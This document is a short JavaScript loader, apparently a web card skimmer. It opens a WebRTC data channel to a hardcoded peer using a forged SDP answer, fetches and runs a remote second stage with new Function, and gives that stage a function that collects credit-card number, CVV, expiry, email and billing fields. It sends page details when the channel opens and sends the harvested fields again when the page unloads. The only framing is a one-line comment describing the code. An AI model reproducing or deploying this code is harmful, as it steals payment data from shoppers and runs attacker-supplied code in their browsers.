// corpus note: small loader that negotiates a WebRTC data channel with a fixed peer, receives its second stage in chunks over the channel, runs it with new Function and hands it a card-field reader and a send callback
(async function () {
  const cfg = "198.51.100.41|443|Hh3s|nO9y2VdK1lqPzT7bW4cXe8Rf|4B:7A:32:45:63:E9:0E:5B:C4:5A:28:96:05:4E:40:E6:B7:F8:26:EA:E1:51:31:A8:29:AE:A9:0A:9C:3C:BE:49".split("|");
  const [ip, port, ufrag, pwd, fp] = cfg;
  const Peer = window.RTCPeerConnection;
  if (!Peer || sessionStorage.getItem("_rtc_ok")) return;

  const remote = (mid) => [
    "v=0", "o=- 7720193847561 2 IN IP4 " + ip, "s=-", "t=0 0",
    "a=group:BUNDLE " + mid,
    "m=application " + port + " UDP/DTLS/SCTP webrtc-datachannel",
    "c=IN IP4 " + ip,
    "a=candidate:0 1 udp 2130706431 " + ip + " " + port + " typ host",
    "a=ice-ufrag:" + ufrag, "a=ice-pwd:" + pwd,
    "a=fingerprint:sha-256 " + fp,
    "a=setup:passive", "a=mid:" + mid, "a=sctp-port:5000", ""
  ].join("\r\n");

  const conn = new Peer({ iceServers: [] });
  const chan = conn.createDataChannel("assets", { ordered: true, protocol: "bin" });
  chan.binaryType = "arraybuffer";

  const pieces = [];
  const dec = new TextDecoder();

  const fields = (extra) => {
    const out = {};
    const sel = ["input[autocomplete^='cc-']", "input[name*='card' i]", "input[name*='cvv' i]", "input[name*='cvc' i]",
      "input[name*='exp' i]", "input[type='email']", "input[name*='billing' i]", "select[name*='billing' i]"].concat(extra || []);
    document.querySelectorAll(sel.join(",")).forEach((el) => {
      const k = el.name || el.id || el.getAttribute("autocomplete");
      if (k && el.value) out[k] = el.value;
    });
    return out;
  };

  const send = (obj) => {
    if (chan.readyState === "open") chan.send(typeof obj === "string" ? obj : JSON.stringify(obj));
  };

  chan.onopen = () => send({ hello: location.host, path: location.pathname, ua: navigator.userAgent.slice(0, 80) });

  chan.onmessage = (ev) => {
    const text = typeof ev.data === "string" ? ev.data : dec.decode(ev.data);
    if (text === "\u0004") {
      const body = pieces.join("");
      pieces.length = 0;
      try {
        new Function("fields", "send", "channel", body)(fields, send, chan);
        sessionStorage.setItem("_rtc_ok", "1");
      } catch (e) {
        send({ err: String(e).slice(0, 120) });
      }
      return;
    }
    pieces.push(text);
  };

  try {
    const offer = await conn.createOffer();
    await conn.setLocalDescription(offer);
    const mid = (offer.sdp.match(/a=mid:(\S+)/) || [0, "0"])[1];
    await conn.setRemoteDescription({ type: "answer", sdp: remote(mid) });
  } catch (_) {
    /* ignore unsupported browsers */
  }

  window.addEventListener("beforeunload", () => send({ last: fields() }));
})();
